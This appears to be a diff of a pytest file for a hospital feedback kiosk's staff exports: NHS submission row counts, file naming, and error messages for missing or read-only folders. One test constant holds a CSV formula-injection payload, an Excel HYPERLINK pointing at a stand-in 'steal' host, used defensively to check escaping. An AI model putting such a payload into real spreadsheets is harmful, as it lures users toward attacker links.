@@ -1,4 +1,5 @@
-"""Staff exports: the responses CSV opens in Excel as text, never as a formula."""
+"""Staff exports: the NHS submission row counts what it should, the responses CSV opens in
+Excel as text (never as a formula), and a bad folder is a sentence saying what to do."""
 
 from __future__ import annotations
 
@@ -10,9 +11,16 @@ from pathlib import Path
 import pytest
 
 from kiosk.config import Location
-from kiosk.export import RAW_COLUMNS, export_month, responses_csv
+from kiosk.export import (
+    RAW_COLUMNS,
+    ExportError,
+    export_month,
+    responses_csv,
+    slug,
+    submission_csv,
+)
 from kiosk.store import LocalStore
-from tests.kiosk.test_store import ORIGIN
+from tests.helpers import ORIGIN
 
 DAY = datetime(2026, 11, 10, 12, 0, tzinfo=UTC)
 NOVEMBER = (date(2026, 11, 1), date(2026, 11, 30))
@@ -21,13 +29,6 @@ WARD = Location(org_code="RWD", site_code="RWDLA", ward_name="Ward 7 Acute Medic
 # Comment texts hold no numbers, e-mail addresses or postcodes, so redaction leaves them as
 # typed and the test sees only what the export did.
 HYPERLINK = '=HYPERLINK("http://evil.example/steal","Click for your results")'
-
-
-@pytest.fixture
-def store(tmp_path: Path):
-    store = LocalStore(tmp_path / "kiosk.db")
-    yield store
-    store.close()
 
 
 def commented(store: LocalStore, comment: str, minutes: int, rating: int = 1) -> str:
@@ -123,3 +124,60 @@ def test_responses_between_is_what_the_export_needs(store):
         "sync_state": "pending",
     }
     assert store.responses_between(date(2026, 12, 1), date(2026, 12, 31)) == []
+
+
+def test_the_submission_row_counts_the_month_without_repeat_taps(store):
+    for minutes, code in enumerate([1, 1, 2, 4, 6]):
+        store.record(code, ORIGIN, language="en", at=DAY + timedelta(minutes=minutes))
+    store.record(5, ORIGIN, language="en", flags=["repeat-tap"], at=DAY)
+    store.record(5, ORIGIN, language="en", at=DAY + timedelta(days=40))  # December
+    header, row = read(submission_csv(store, WARD, 2026, 11))
+    assert dict(zip(header, row, strict=True)) == {
+        "Yearnumber": "2026_27",
+        "Periodname": "NOVEMBER",
+        "Org code": "RWD",
+        "Site code": "RWDLA",
+        "Ward name": "Ward 7 Acute Medicine",
+        "Spec 1": "",
+        "Spec 2": "",
+        "1 Very Good SUM": "2",
+        "2 Good SUM": "1",
+        "3 Neither Good nor Poor SUM": "0",
+        "4 Poor SUM": "1",
+        "5 Very Poor SUM": "0",  # the repeat tap is left out
+        "6 Dont Know SUM": "1",
+        "Total Responses": "5",
+        "Total Eligible": "",
+    }
+
+
+def test_an_empty_month_is_still_a_row_of_zeros(store):
+    header, row = read(submission_csv(store, WARD, 2026, 2))
+    counts = dict(zip(header, row, strict=True))
+    assert counts["Periodname"] == "FEBRUARY" and counts["Yearnumber"] == "2025_26"
+    assert counts["Total Responses"] == "0" and counts["1 Very Good SUM"] == "0"
+
+
+def test_files_are_named_after_the_ward_and_month(store, tmp_path):
+    files = export_month(store, WARD, 2026, 3, tmp_path)
+    assert [path.name for path in files] == [
+        "ward-7-acute-medicine-2026-03-fft-submission.csv",
+        "ward-7-acute-medicine-2026-03-responses.csv",
+    ]
+    assert slug("  ") == "ward" and slug("Ward 7 (Acute) – Bay B") == "ward-7-acute-bay-b"
+
+
+def test_a_missing_usb_stick_is_a_sentence_and_writes_nothing(store, tmp_path):
+    gone = tmp_path / "usb-removed"
+    with pytest.raises(ExportError, match="check the USB stick"):
+        export_month(store, WARD, 2026, 11, gone)
+    assert not gone.exists()
+
+
+def test_a_read_only_folder_is_a_sentence(store, tmp_path, monkeypatch):
+    def refuse(self: Path, *args: object, **kwargs: object) -> int:
+        raise PermissionError(13, "Permission denied")
+
+    monkeypatch.setattr(Path, "write_text", refuse)
+    with pytest.raises(ExportError, match="choose another folder"):
+        export_month(store, WARD, 2026, 11, tmp_path)
